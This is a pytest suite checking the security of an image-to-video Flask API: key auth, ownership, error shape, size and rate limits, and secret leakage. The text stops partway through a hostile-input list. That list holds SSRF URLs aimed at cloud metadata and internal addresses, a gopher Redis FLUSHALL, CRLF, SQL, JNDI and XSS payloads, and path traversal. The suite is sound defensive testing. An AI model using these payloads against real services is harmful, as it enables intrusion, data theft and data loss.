"""Safe to expose: API keys, ownership, one error shape, body and rate limits, secrets, hostile input."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import logging
import time
from collections.abc import Callable
from urllib.parse import quote

import pytest
from flask import Flask
from flask.testing import FlaskClient
from rq import Queue

from config import settings_from
from i2v_app import create_app
from jobs.identity import KEY_PREFIX, TARGET_PREFIX
from jobs.store import ACTIVE_KEY

PLAIN = "https://cdn.example.com/images/plane.jpg"
OTHER = "https://cdn.example.com/images/boat.jpg"
SUBMIT = "/api/v1/i2v"
CHALLENGE = 'Bearer realm="i2v"'
PROBLEM_KEYS = {"type", "title", "status", "detail", "request_id", "errors"}

KEY_A = "ak_alpha_3f9c1e7b2d5a"
KEY_B = "ak_bravo_8e2a6c4f1b7d"
#: Configured only as ``sha256:<hex>``.
KEY_C = "ak_charlie_5d7e9a1c3b0f"
#: Configured only as a bare 64-hex digest.
KEY_D = "ak_delta_2b4d6f8a0c9e"
API_KEYS = ",".join(
    [KEY_A, KEY_B, "sha256:" + hashlib.sha256(KEY_C.encode()).hexdigest(), hashlib.sha256(KEY_D.encode()).hexdigest()]
)
PUBLIC_PATHS = ["/", "/docs", "/redoc", "/openapi.json", "/healthz", "/docs/assets/swagger-ui-bundle.js"]

Build = Callable[..., Flask]


@pytest.fixture
def build(service_env: dict[str, str]) -> Build:
    """Make an app from the test environment plus overrides, answering failures as production does."""

    def make(**overrides: str) -> Flask:
        app = create_app(settings_from({**service_env, **overrides}))
        app.config["TESTING"] = True
        app.config["PROPAGATE_EXCEPTIONS"] = False
        return app

    return make


@pytest.fixture
def secured(build: Build) -> FlaskClient:
    """A client of an app that requires API keys A, B, C and D."""
    return build(I2V_AUTH_DISABLED="0", I2V_API_KEYS=API_KEYS).test_client()


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def submit(client: FlaskClient, request_id: str = "req-1", image: str = PLAIN, key: str | None = None, **kwargs):
    headers = {"x-request-id": request_id, **(bearer(key) if key else {}), **kwargs.pop("headers", {})}
    return client.post(SUBMIT, json={"image_id": image}, headers=headers, **kwargs)


def assert_problem(resp, status: int) -> dict:
    """The response is an RFC 9457 problem with ``status``, never HTML or a traceback."""
    text = resp.get_data(as_text=True)
    assert resp.status_code == status, text
    assert resp.mimetype == "application/problem+json", resp.mimetype
    body = json.loads(text)
    assert isinstance(body, dict)
    assert set(body) <= PROBLEM_KEYS, set(body) - PROBLEM_KEYS
    assert body["status"] == status
    assert isinstance(body["type"], str) and body["type"]
    assert isinstance(body["title"], str) and body["title"]
    assert isinstance(body["detail"], str) and body["detail"]
    lowered = text.lower()
    assert "<html" not in lowered and "<!doctype" not in lowered and "traceback" not in lowered
    return body


def records(redis) -> list[bytes]:
    return redis.keys(KEY_PREFIX + "*")


def queued(redis, settings) -> int:
    return Queue(settings.queue_name, connection=redis).count


def retry_after(resp) -> int:
    value = resp.headers.get("Retry-After", "")
    assert value.isdigit(), f"Retry-After is {value!r}"
    return int(value)


def fresh_window(seconds: int) -> None:
    """Wait out the end of a fixed rate-limit window so a test's requests all fall in one window."""
    left = seconds - time.time() % seconds
    if left < 3:
        time.sleep(left + 0.05)


# --- API keys ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "authorization",
    [
        pytest.param(None, id="missing"),
        pytest.param("", id="empty"),
        pytest.param("Bearer", id="scheme-only"),
        pytest.param("Bearer ", id="empty-token"),
        pytest.param("Bearer not-a-key", id="wrong-key"),
        pytest.param(f"Bearer {KEY_A}x", id="key-plus-a-char"),
        pytest.param(f"Bearer {KEY_A[:-1]}", id="key-minus-a-char"),
        pytest.param(f"Bearer {KEY_A.upper()}", id="key-upper-case"),
        pytest.param(f"Bearer {hashlib.sha256(KEY_A.encode()).hexdigest()}", id="the-digest-itself"),
        pytest.param(f"Bearer sha256:{hashlib.sha256(KEY_C.encode()).hexdigest()}", id="configured-entry"),
        pytest.param(KEY_A, id="no-scheme"),
        pytest.param(f"Token {KEY_A}", id="other-scheme"),
        pytest.param("Basic " + base64.b64encode(f"{KEY_A}:".encode()).decode(), id="basic"),
        pytest.param(f"Bearer {KEY_A} {KEY_B}", id="two-keys"),
    ],
)
def test_missing_or_wrong_key_is_401_with_a_bearer_challenge(secured, redis, settings, authorization) -> None:
    """Without a valid key, submit, status and cancel answer 401 with the challenge and nothing is stored."""
    headers = {"x-request-id": "auth-1"}
    if authorization is not None:
        headers["Authorization"] = authorization
    for resp in (
        secured.post(SUBMIT, json={"image_id": PLAIN}, headers=headers),
        secured.get("/api/v1/i2v/auth-1", headers=headers),
        secured.delete("/api/v1/i2v/auth-1", headers=headers),
        secured.post("/api/v1/i2v/auth-1/callback", headers=headers),
    ):
        body = assert_problem(resp, 401)
        assert resp.headers["WWW-Authenticate"] == CHALLENGE
        assert body["request_id"] == "auth-1"
    assert records(redis) == []
    assert queued(redis, settings) == 0


@pytest.mark.parametrize(
    "authorization",
    [
        pytest.param(f"Bearer {KEY_A}", id="plain-key"),
        pytest.param(f"Bearer {KEY_B}", id="second-plain-key"),
        pytest.param(f"Bearer {KEY_C}", id="sha256-prefixed-digest"),
        pytest.param(f"Bearer {KEY_D}", id="bare-hex-digest"),
        pytest.param(f"bearer {KEY_A}", id="lower-case-scheme"),
        pytest.param(f"Bearer   {KEY_A}  ", id="extra-spaces"),
    ],
)
def test_a_configured_key_is_accepted(secured, redis, settings, authorization) -> None:
    """Plain keys and keys configured only by their SHA-256 digest both authenticate."""
    resp = secured.post(
        SUBMIT, json={"image_id": PLAIN}, headers={"x-request-id": "ok-1", "Authorization": authorization}
    )
    assert resp.status_code == 202, resp.get_data(as_text=True)
    assert "WWW-Authenticate" not in resp.headers
    assert secured.get("/api/v1/i2v/ok-1", headers={"Authorization": authorization}).status_code == 200
    assert len(records(redis)) == 1
    assert queued(redis, settings) == 1


@pytest.mark.parametrize("path", PUBLIC_PATHS)
@pytest.mark.parametrize("keys", [pytest.param(API_KEYS, id="keys"), pytest.param("", id="no-keys")])
def test_public_pages_need_no_key(build, redis, path, keys) -> None:
    """The index, docs, spec, health and Swagger UI assets answer 200 without a key."""
    client = build(I2V_AUTH_DISABLED="0", I2V_API_KEYS=keys).test_client()
    resp = client.get(path)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    assert "WWW-Authenticate" not in resp.headers


def test_readyz_is_not_behind_the_keys(secured, redis) -> None:
    """/readyz never asks for a key (whatever it reports)."""
    resp = secured.get("/readyz")
    assert resp.status_code != 401
    assert "WWW-Authenticate" not in resp.headers


def test_without_keys_the_api_refuses_with_503(build, redis, settings, caplog) -> None:
    """No I2V_API_KEYS and auth not disabled: /api/v1 answers 503 problems and says why in the log."""
    with caplog.at_level(logging.WARNING):
        client = build(I2V_AUTH_DISABLED="0", I2V_API_KEYS="").test_client()
    assert any("I2V_API_KEYS" in r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING)
    for resp in (
        client.post(SUBMIT, json={"image_id": PLAIN}, headers={"x-request-id": "nokeys", **bearer(KEY_A)}),
        client.get("/api/v1/i2v/nokeys"),
        client.delete("/api/v1/i2v/nokeys"),
    ):
        body = assert_problem(resp, 503)
        assert "I2V_API_KEYS" in body["detail"]
    assert records(redis) == []
    assert queued(redis, settings) == 0


def test_disabling_auth_logs_a_warning(build, redis, caplog) -> None:
    """I2V_AUTH_DISABLED=1 is announced with a warning; with keys configured there is none."""
    with caplog.at_level(logging.WARNING):
        build(I2V_AUTH_DISABLED="1")
    warned = [r for r in caplog.records if r.levelno == logging.WARNING and "I2V_AUTH_DISABLED" in r.getMessage()]
    assert warned
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        build(I2V_AUTH_DISABLED="0", I2V_API_KEYS=API_KEYS)
    assert not [r for r in caplog.records if "authentication" in r.getMessage().lower()]


def test_spec_operations_under_api_v1_require_the_bearer_scheme(client) -> None:
    """Every /api/v1 operation requires bearerAuth; the public ones require nothing."""
    spec = client.get("/openapi.json").get_json()
    assert not spec.get("security")
    for path, item in spec["paths"].items():
        for method, operation in item.items():
            if method == "parameters":
                continue
            if path.startswith("/api/v1/"):
                assert operation.get("security") == [{"bearerAuth": []}], (method, path)
            else:
                assert not operation.get("security"), (method, path)


def test_spec_declares_the_bearer_scheme(client) -> None:
    """components.securitySchemes.bearerAuth is an HTTP bearer scheme, so Swagger UI can authorize."""
    schemes = client.get("/openapi.json").get_json().get("components", {}).get("securitySchemes", {})
    assert schemes.get("bearerAuth", {}).get("type") == "http"
    assert schemes["bearerAuth"].get("scheme", "").lower() == "bearer"


# --- Ownership --------------------------------------------------------------------------------------


def test_another_key_can_neither_see_nor_touch_a_request(secured, redis, settings) -> None:
    """Key B gets 404 for key A's request on status, cancel and redelivery; A's request is untouched."""
    assert submit(secured, "mine", key=KEY_A).status_code == 202
    for resp in (
        secured.get("/api/v1/i2v/mine", headers=bearer(KEY_B)),
        secured.delete("/api/v1/i2v/mine", headers=bearer(KEY_B)),
        secured.post("/api/v1/i2v/mine/callback", headers=bearer(KEY_B)),
        secured.get("/api/v1/i2v/mine", headers=bearer(KEY_C)),
    ):
        assert_problem(resp, 404)
    mine = secured.get("/api/v1/i2v/mine", headers=bearer(KEY_A))
    assert mine.status_code == 200
    assert mine.get_json()["status"] == "queued"
    assert queued(redis, settings) == 1


def test_the_same_request_id_under_two_keys_at_two_callback_urls_is_two_requests(build, redis, settings) -> None:
    """One x-request-id under two keys, called back at two URLs: two 202s, two records, two jobs."""
    client = build(
        I2V_AUTH_DISABLED="0", I2V_API_KEYS=API_KEYS, CALLBACK_URL_ALLOWLIST="hooks.example.com"
    ).test_client()
    assert submit(client, "shared", PLAIN, key=KEY_A).status_code == 202
    own_url = {"image_id": OTHER, "callback_url": "https://hooks.example.com/cb"}
    resp = client.post(SUBMIT, json=own_url, headers={"x-request-id": "shared", **bearer(KEY_B)})
    assert resp.status_code == 202, resp.get_json()
    assert len(records(redis)) == 2
    queue = Queue(settings.queue_name, connection=redis)
    assert len(set(queue.job_ids)) == 2
    assert client.get("/api/v1/i2v/shared", headers=bearer(KEY_A)).get_json()["image_url"] == PLAIN
    assert client.get("/api/v1/i2v/shared", headers=bearer(KEY_B)).get_json()["image_url"] == OTHER


def test_a_request_id_at_a_callback_url_belongs_to_one_key(build, redis, settings) -> None:
    """Key B cannot take key A's id at A's callback URL (409, revealing nothing else) until A's record is gone."""
    client = build(I2V_AUTH_DISABLED="0", I2V_API_KEYS=API_KEYS, CALLBACK_URL_ALLOWLIST="127.0.0.1").test_client()
    assert submit(client, "game-42", PLAIN, key=KEY_A).status_code == 202
    same_url = {"image_id": OTHER, "callback_url": settings.callback_api_url + "/game-42/callback"}
    for resp in (
        submit(client, "game-42", OTHER, key=KEY_B),
        submit(client, "game-42", PLAIN, key=KEY_C),
        client.post(SUBMIT, json=same_url, headers={"x-request-id": "game-42", **bearer(KEY_B)}),
    ):
        problem = assert_problem(resp, 409)
        assert problem["detail"] == "Request id 'game-42' is already in use at this callback URL"
    assert len(records(redis)) == 1
    assert queued(redis, settings) == 1
    assert_problem(client.delete("/api/v1/i2v/game-42", headers=bearer(KEY_B)), 404)
    assert submit(client, "game-42", PLAIN, key=KEY_A).status_code == 200
    claims = redis.keys(TARGET_PREFIX + "*")
    assert len(claims) == 1
    assert 0 < redis.ttl(claims[0]) <= settings.record_ttl
    # The claim lives as long as the record: once A's record is gone, the id is free at that URL.
    redis.delete(*records(redis))
    assert submit(client, "game-42", OTHER, key=KEY_B).status_code == 202


# --- One error shape --------------------------------------------------------------------------------


def boom_app(build: Build, **overrides: str) -> Flask:
    """An app with a test-only route whose view raises."""
    app = build(**overrides)

    def boom():
        raise RuntimeError("kaboom: internal detail in secret_module, line 42")

    app.add_url_rule("/boom", "boom", boom, methods=["GET", "POST"])
    return app


def error_400(build: Build, rid: dict[str, str]):
    return build().test_client().post(SUBMIT, data="{not json", content_type="application/json", headers=rid)


def error_401(build: Build, rid: dict[str, str]):
    client = build(I2V_AUTH_DISABLED="0", I2V_API_KEYS=API_KEYS).test_client()
    return client.post(SUBMIT, json={"image_id": PLAIN}, headers=rid)


def error_404_route(build: Build, rid: dict[str, str]):
    return build().test_client().get("/nowhere", headers=rid)


def error_404_record(build: Build, rid: dict[str, str]):
    return build().test_client().get(f"/api/v1/i2v/{quote(rid['x-request-id'], safe='')}", headers=rid)


def error_404_asset(build: Build, rid: dict[str, str]):
    return build().test_client().get("/docs/assets/../../config.py", headers=rid)


def error_405(build: Build, rid: dict[str, str]):
    return build().test_client().put(SUBMIT, json={"image_id": PLAIN}, headers=rid)


def error_409(build: Build, rid: dict[str, str]):
    client = build().test_client()
    assert client.post(SUBMIT, json={"image_id": PLAIN}, headers=rid).status_code == 202
    return client.post(SUBMIT, json={"image_id": OTHER}, headers=rid)


def error_413(build: Build, rid: dict[str, str]):
    client = build(MAX_BODY_BYTES="256").test_client()
    return client.post(SUBMIT, json={"image_id": PLAIN, "pad": "x" * 300}, headers=rid)


def error_415(build: Build, rid: dict[str, str]):
    client = build().test_client()
    return client.post(SUBMIT, data=json.dumps({"image_id": PLAIN}), content_type="text/plain", headers=rid)


def error_422(build: Build, rid: dict[str, str]):
    return build().test_client().post(SUBMIT, json={"callback_url": None}, headers=rid)


def error_429(build: Build, rid: dict[str, str]):
    client = build(RATE_LIMIT="1/minute").test_client()
    fresh_window(60)
    client.get("/api/v1/i2v/unknown", headers=rid)
    return client.get("/api/v1/i2v/unknown", headers=rid)


def error_503_backlog(build: Build, rid: dict[str, str]):
    client = build(MAX_QUEUED="1").test_client()
    assert submit(client, "first").status_code == 202
    return client.post(SUBMIT, json={"image_id": PLAIN}, headers=rid)


def error_503_no_keys(build: Build, rid: dict[str, str]):
    client = build(I2V_AUTH_DISABLED="0", I2V_API_KEYS="").test_client()
    return client.post(SUBMIT, json={"image_id": PLAIN}, headers=rid)


def error_500(build: Build, rid: dict[str, str]):
    return boom_app(build).test_client().get("/boom", headers=rid)


ERRORS = [
    pytest.param(error_400, 400, id="400-bad-json"),
    pytest.param(error_401, 401, id="401-no-key"),
    pytest.param(error_404_route, 404, id="404-route"),
    pytest.param(error_404_record, 404, id="404-record"),
    pytest.param(error_404_asset, 404, id="404-asset-traversal"),
    pytest.param(error_405, 405, id="405"),
    pytest.param(error_409, 409, id="409"),
    pytest.param(error_413, 413, id="413"),
    pytest.param(error_415, 415, id="415"),
    pytest.param(error_422, 422, id="422"),
    pytest.param(error_429, 429, id="429"),
    pytest.param(error_503_backlog, 503, id="503-backlog"),
    pytest.param(error_503_no_keys, 503, id="503-no-keys"),
    pytest.param(error_500, 500, id="500"),
]
#: A 409 needs a well-formed id; every other error can be provoked with a malformed one.
ERRORS_WITHOUT_A_VALID_ID = [p for p in ERRORS if p.values[1] != 409]


@pytest.mark.parametrize(("make_error", "status"), ERRORS)
def test_every_error_is_one_problem_shape(build, redis, make_error, status) -> None:
    """Each error status is application/problem+json with type, title, status, detail and the request id."""
    resp = make_error(build, {"x-request-id": "shape-1"})
    body = assert_problem(resp, status)
    assert body["request_id"] == "shape-1"
    if status == 422:
        assert isinstance(body["errors"], dict) and "image_id" in body["errors"]
        assert "image_id" in body["detail"]


@pytest.mark.parametrize(("make_error", "status"), ERRORS_WITHOUT_A_VALID_ID)
def test_errors_leave_out_a_malformed_request_id(build, redis, make_error, status) -> None:
    """A malformed x-request-id is never echoed back in an error."""
    hostile = "<script>alert(1)</script>"
    resp = make_error(build, {"x-request-id": hostile})
    assert resp.status_code in (status, 422)  # the malformed id may be what gets reported
    body = assert_problem(resp, resp.status_code)
    assert "request_id" not in body
    assert hostile not in resp.get_data(as_text=True)


def test_a_server_error_hides_the_exception_and_logs_it(build, redis, caplog) -> None:
    """A failing view answers a bare 500 problem; the exception goes to the log, not to the caller."""
    client = boom_app(build).test_client()
    with caplog.at_level(logging.ERROR):
        resp = client.post("/boom", json={"x": 1}, headers={"x-request-id": "shape-1"})
    body = assert_problem(resp, 500)
    text = resp.get_data(as_text=True)
    for leak in ("kaboom", "RuntimeError", "secret_module", "line 42", "File "):
        assert leak not in text
    assert body["detail"]
    assert any(r.exc_info or "RuntimeError" in r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR)


def test_405_names_the_allowed_methods(client, redis) -> None:
    """A wrong method is a problem with an Allow header."""
    resp = client.patch(SUBMIT, headers={"x-request-id": "shape-1"})
    assert_problem(resp, 405)
    assert "POST" in resp.headers["Allow"]


# --- Body size and type -----------------------------------------------------------------------------


def padded(size: int) -> bytes:
    """A valid submission body of exactly ``size`` bytes (an ignored field pads it)."""
    base = json.dumps({"image_id": PLAIN, "pad": ""}).encode()
    body = json.dumps({"image_id": PLAIN, "pad": "x" * (size - len(base))}).encode()
    assert len(body) == size
    return body


@pytest.mark.parametrize(
    ("cap", "env"),
    [pytest.param(64 * 1024, {}, id="default-64KiB"), pytest.param(512, {"MAX_BODY_BYTES": "512"}, id="512")],
)
def test_bodies_over_max_body_bytes_are_413(build, redis, settings, cap, env) -> None:
    """A body of MAX_BODY_BYTES is accepted; one byte more is a 413 problem and stores nothing."""
    client = build(**env).test_client()
    at_cap = client.post(SUBMIT, data=padded(cap), content_type="application/json", headers={"x-request-id": "at"})
    assert at_cap.status_code == 202, at_cap.get_data(as_text=True)[:300]
    over = client.post(SUBMIT, data=padded(cap + 1), content_type="application/json", headers={"x-request-id": "over"})
    body = assert_problem(over, 413)
    assert str(cap) in body["detail"]
    assert len(records(redis)) == 1
    assert queued(redis, settings) == 1


def test_a_lying_content_length_is_413(build, redis) -> None:
    """A Content-Length over the cap is refused before the body is read."""
    resp = (
        build(MAX_BODY_BYTES="512")
        .test_client()
        .post(
            SUBMIT,
            data=json.dumps({"image_id": PLAIN}),
            content_type="application/json",
            headers={"x-request-id": "liar"},
            environ_overrides={"CONTENT_LENGTH": "999999999"},
        )
    )
    assert_problem(resp, 413)
    assert records(redis) == []


def test_a_chunked_body_over_the_cap_is_413(build, redis) -> None:
    """A body sent without Content-Length (chunked) that grows past the cap is a 413 too."""
    body = padded(2048)
    resp = (
        build(MAX_BODY_BYTES="512")
        .test_client()
        .post(
            SUBMIT,
            input_stream=io.BytesIO(body),
            headers={"x-request-id": "chunked", "Content-Type": "application/json", "Transfer-Encoding": "chunked"},
            environ_overrides={"wsgi.input_terminated": True},
        )
    )
    assert_problem(resp, 413)
    assert records(redis) == []


def test_a_small_chunked_body_is_accepted(build, redis) -> None:
    """A chunked body under the cap is read whole."""
    resp = (
        build(MAX_BODY_BYTES="512")
        .test_client()
        .post(
            SUBMIT,
            input_stream=io.BytesIO(json.dumps({"image_id": PLAIN}).encode()),
            headers={"x-request-id": "chunked", "Content-Type": "application/json", "Transfer-Encoding": "chunked"},
            environ_overrides={"wsgi.input_terminated": True},
        )
    )
    assert resp.status_code == 202, resp.get_data(as_text=True)


@pytest.mark.parametrize(
    "kwargs",
    [
        pytest.param({"data": json.dumps({"image_id": PLAIN}), "content_type": "text/plain"}, id="text-plain"),
        pytest.param({"data": {"image_id": PLAIN}}, id="form-urlencoded"),
        pytest.param({"data": {"image_id": PLAIN, "f": (io.BytesIO(b"x"), "a.jpg")}}, id="multipart"),
        pytest.param({"data": json.dumps({"image_id": PLAIN})}, id="no-content-type"),
        pytest.param({"data": "<image_id>x</image_id>", "content_type": "application/xml"}, id="xml"),
        pytest.param(
            {"data": json.dumps({"image_id": PLAIN}), "content_type": "application/jsonx"}, id="json-lookalike"
        ),
        pytest.param({"data": json.dumps({"image_id": PLAIN}), "content_type": "text/json"}, id="text-json"),
    ],
)
def test_non_json_bodies_are_415(client, redis, settings, kwargs) -> None:
    """POST /api/v1/i2v takes JSON only: anything else is a 415 problem and stores nothing."""
    resp = client.post(SUBMIT, headers={"x-request-id": "type-1"}, **kwargs)
    body = assert_problem(resp, 415)
    assert "JSON" in body["detail"]
    assert records(redis) == []
    assert queued(redis, settings) == 0


def test_json_with_a_charset_is_accepted(client, redis) -> None:
    """application/json with parameters is still JSON."""
    resp = client.post(
        SUBMIT,
        data=json.dumps({"image_id": PLAIN}),
        content_type="application/json; charset=utf-8",
        headers={"x-request-id": "cs-1"},
    )
    assert resp.status_code == 202


# --- Rate limit and backlog -------------------------------------------------------------------------


def test_rate_limit_is_per_key_with_retry_after(build, redis, settings) -> None:
    """RATE_LIMIT=3/minute: a key's 4th request is a 429 with Retry-After; another key goes on."""
    env = {"I2V_AUTH_DISABLED": "0", "I2V_API_KEYS": API_KEYS, "RATE_LIMIT": "3/minute"}
    web1, web2 = build(**env).test_client(), build(**env).test_client()
    fresh_window(60)
    # Two web processes share the count through Redis.
    assert submit(web1, "rl-1", key=KEY_A).status_code == 202
    assert submit(web2, "rl-2", key=KEY_A).status_code == 202
    assert submit(web1, "rl-3", key=KEY_A).status_code == 202
    limited = submit(web2, "rl-4", key=KEY_A)
    body = assert_problem(limited, 429)
    assert body["request_id"] == "rl-4"
    assert 1 <= retry_after(limited) <= 60
    assert_problem(web1.get("/api/v1/i2v/rl-1", headers=bearer(KEY_A)), 429)
    assert submit(web1, "rl-b1", key=KEY_B).status_code == 202
    assert len(records(redis)) == 4
    assert queued(redis, settings) == 4


def test_without_rate_limit_there_is_none(client, redis) -> None:
    """RATE_LIMIT unset: many requests in a row all pass."""
    for n in range(30):
        assert client.get(f"/api/v1/i2v/none-{n}").status_code == 404


def test_backlog_cap_refuses_submits_with_503(build, redis, settings) -> None:
    """MAX_QUEUED=2: the 3rd submit is a 503 problem with Retry-After and enqueues nothing; reads and repeats work."""
    client = build(MAX_QUEUED="2").test_client()
    assert submit(client, "q-1").status_code == 202
    assert submit(client, "q-2").status_code == 202
    refused = submit(client, "q-3")
    body = assert_problem(refused, 503)
    assert body["request_id"] == "q-3"
    assert retry_after(refused) >= 1
    assert len(records(redis)) == 2
    assert queued(redis, settings) == 2
    assert client.get("/api/v1/i2v/q-3").status_code == 404
    assert client.get("/api/v1/i2v/q-1").status_code == 200
    assert submit(client, "q-1").status_code == 200  # a repeat is answered, the backlog notwithstanding
    assert queued(redis, settings) == 2


# --- Secrets ----------------------------------------------------------------------------------------

REPLICATE_CANARY = "r8_CANARY_replicate_7b1f0e9d"
PIKA_CANARY = "pika_CANARY_bearer_4c2a8e6f"
GAME_CANARY = "game_CANARY_apikey_9d3b5f1a"
SIGNING_KEY = b"CANARY-signing-key-0123456789abcdef"
SIGNING_CANARY = "whsec_" + base64.b64encode(SIGNING_KEY).decode()
API_CANARY_A = "ak_CANARY_caller_one_1e2d3c"
API_CANARY_B = "ak_CANARY_caller_two_5f6e7d"
WRONG_CANARY = "ak_CANARY_wrong_guess_8a9b0c"
SECRETS = [
    REPLICATE_CANARY,
    PIKA_CANARY,
    GAME_CANARY,
    SIGNING_CANARY,
    SIGNING_CANARY.removeprefix("whsec_"),
    SIGNING_KEY.decode(),
    API_CANARY_A,
    API_CANARY_B,
    WRONG_CANARY,
    "CANARY",
]


def test_secrets_never_leak_into_responses_records_or_logs(build, redis, caplog) -> None:
    """Provider tokens, the GAME key, the signing secret and callers' keys appear in no body, header, record or log."""
    caplog.set_level(logging.DEBUG)
    app = boom_app(
        build,
        REPLICATE_API_TOKEN=REPLICATE_CANARY,
        PIKAPI_BEARER_TOKEN=PIKA_CANARY,
        GAME_API_KEY=GAME_CANARY,
        CALLBACK_SIGNING_SECRET=SIGNING_CANARY,
        I2V_AUTH_DISABLED="0",
        I2V_API_KEYS=f"{API_CANARY_A},sha256:{hashlib.sha256(API_CANARY_B.encode()).hexdigest()}",
        LOG_LEVEL="DEBUG",
        RATE_LIMIT="100/minute",
    )
    client = app.test_client()
    a, b, wrong = bearer(API_CANARY_A), bearer(API_CANARY_B), bearer(WRONG_CANARY)
    responses = [
        client.post(SUBMIT, json={"image_id": PLAIN}, headers={"x-request-id": "s-1", **a}),
        client.post(SUBMIT, json={"image_id": PLAIN}, headers={"x-request-id": "s-1", **a}),
        client.post(SUBMIT, json={"image_id": OTHER}, headers={"x-request-id": "s-1", **a}),
        client.post(SUBMIT, json={"image_id": PLAIN}, headers={"x-request-id": "s-2", **b}),
        client.get("/api/v1/i2v/s-1", headers=a),
        client.get("/api/v1/i2v/s-2", headers=b),
        client.get("/api/v1/i2v/s-1", headers=b),
        client.post("/api/v1/i2v/s-1/callback", headers=a),
        client.post(SUBMIT, json={"image_id": PLAIN}, headers={"x-request-id": "s-3", **wrong}),
        client.get("/api/v1/i2v/s-1", headers={"Authorization": f"Token {API_CANARY_A}"}),
        client.post(SUBMIT, json={"image_id": "http://127.0.0.1/"}, headers={"x-request-id": "s-4", **a}),
        client.post(
            SUBMIT,
            json={"image_id": PLAIN, "callback_url": "https://x.example/cb"},
            headers={"x-request-id": "s-5", **a},
        ),
        client.post(SUBMIT, data="{bad", content_type="application/json", headers={"x-request-id": "s-6", **a}),
        client.post(SUBMIT, data="x", content_type="text/plain", headers={"x-request-id": "s-7", **a}),
        client.put(SUBMIT, headers=a),
        client.get("/boom", headers=a),
        client.delete("/api/v1/i2v/s-2", headers=b),
        client.get("/"),
        client.get("/docs"),
        client.get("/redoc"),
        client.get("/openapi.json"),
        client.get("/healthz"),
        client.get("/readyz"),
    ]
    assert [r.status_code for r in responses[:4]] == [202, 200, 409, 202]
    assert responses[8].status_code == 401
    assert any(r.levelno >= logging.ERROR for r in caplog.records)  # the log is really being captured
    seen = [r.get_data(as_text=True) + "\n" + str(r.headers) for r in responses]
    for key in redis.keys(KEY_PREFIX + "*"):
        seen.append(repr(redis.hgetall(key)))
    seen.append(caplog.text)
    seen += [repr(vars(record)) for record in caplog.records]
    for text in seen:
        for secret in SECRETS:
            assert secret not in text, f"{secret!r} leaked: {text[:500]}"


# --- Hostile input ----------------------------------------------------------------------------------

SERVER_ERROR = "a 500 instead of a 4xx"


def wsgi(text: str) -> str:
    """A header value as a WSGI server hands it over: the raw bytes decoded as latin-1."""
    return text.encode("utf-8", "surrogatepass").decode("latin-1")


def header_case(value: str | None, case_id: str, marks=()):
    environ = {} if value is None else {"HTTP_X_REQUEST_ID": wsgi(value)}
    return pytest.param(json.dumps({"image_id": PLAIN}).encode(), environ, id=f"request-id-{case_id}", marks=marks)


def image_case(image: object, case_id: str, marks=()):
    body = json.dumps({"image_id": image}).encode()
    return pytest.param(body, {"HTTP_X_REQUEST_ID": "hostile-1"}, id=f"image-{case_id}", marks=marks)


def body_case(body: bytes | str, case_id: str, marks=()):
    raw = body.encode() if isinstance(body, str) else body
    return pytest.param(raw, {"HTTP_X_REQUEST_ID": "hostile-1"}, id=f"body-{case_id}", marks=marks)


def fullwidth(text: str) -> str:
    return "".join(chr(ord(ch) + 0xFEE0) for ch in text)


HOSTILE = [
    # x-request-id
    header_case(None, "missing"),
    header_case("", "empty"),
    header_case("x" * 129, "129-chars"),
    header_case("x" * 8000, "8000-chars"),
    header_case("a b", "space"),
    header_case("a\tb", "tab"),
    header_case("a\r\nX-Injected: 1", "crlf-injection"),
    header_case("a\nb", "lf"),
    header_case("a\x00b", "nul"),
    header_case("a\x1b[31mred", "ansi-escape"),
    header_case("é", "latin-1"),
    header_case("请求-1", "utf-8"),
    header_case("😀", "emoji"),
    header_case(".", "dot-segment"),
    header_case("..", "dot-dot-segment"),
    header_case("...", "only-dots"),
    header_case("../../etc/passwd", "path-traversal"),
    header_case("..%2F..%2Fetc", "percent-2F"),
    header_case("a/b", "slash"),
    header_case("' OR '1'='1'; --", "sql"),
    header_case("<script>alert(1)</script>", "html"),
    header_case("${jndi:ldap://x.example/a}", "jndi"),
    header_case("{{7*7}}", "template"),
    header_case("*", "redis-glob"),
    header_case("i2v:req:*", "redis-key-glob"),
    # image_id: private and special addresses in every notation
    image_case("http://127.0.0.1/a.jpg", "loopback"),
    image_case("http://10.0.0.1/a.jpg", "private-10"),
    image_case("http://172.16.0.1/a.jpg", "private-172"),
    image_case("http://192.168.0.1/a.jpg", "private-192"),
    image_case("http://169.254.169.254/latest/meta-data/", "cloud-metadata"),
    image_case("http://100.64.0.1/a.jpg", "cgnat"),
    image_case("http://224.0.0.1/a.jpg", "multicast"),
    image_case("http://240.0.0.1/a.jpg", "reserved"),
    image_case("http://0.0.0.0/a.jpg", "unspecified"),
    image_case("http://[::]/a.jpg", "v6-unspecified"),
    image_case("http://[::1]/a.jpg", "v6-loopback"),
    image_case("http://[fe80::1]/a.jpg", "v6-link-local"),
    image_case("http://[fd00::1]/a.jpg", "v6-ula"),
    image_case("http://[::ffff:127.0.0.1]/a.jpg", "v4-mapped"),
    image_case("http://[::ffff:a9fe:a9fe]/a.jpg", "v4-mapped-hex-metadata"),
    image_case("http://[2002:7f00:1::]/a.jpg", "6to4"),
    image_case("http://2130706433/a.jpg", "decimal"),
    image_case("http://0x7f000001/a.jpg", "hex"),
    image_case("http://0177.0.0.1/a.jpg", "octal"),
    image_case("http://127.1/a.jpg", "short"),
    image_case("http://0x7f.1/a.jpg", "short-hex"),
    image_case("http://localhost/a.jpg", "localhost"),
    image_case("http://LocalHost.:8080/a.jpg", "localhost-dot-port"),
    image_case("http://metadata.google.internal/", "internal-name"),
    image_case("http://example.com@127.0.0.1/a.jpg", "userinfo-host-confusion"),
    image_case("http://user:pass@cdn.example.com/a.jpg", "credentials"),
    image_case("http://cdn.example.com:99999/a.jpg", "bad-port"),
    image_case("javascript:alert(document.cookie)", "javascript"),
    image_case("data:image/png;base64,iVBORw0KGgo=", "data"),
    image_case("file:///etc/passwd", "file"),
    image_case("gopher://127.0.0.1:6379/_FLUSHALL", "gopher"),
    image_case("ftp://cdn.example.com/a.jpg", "ftp"),
    image_case("//cdn.example.com/a.jpg", "scheme-relative"),
    image_case(" http://127.0.0.1/a.jpg ", "whitespace-wrapped"),
    image_case("\thttp://10.0.0.1/a.jpg\n", "tab-newline-wrapped"),
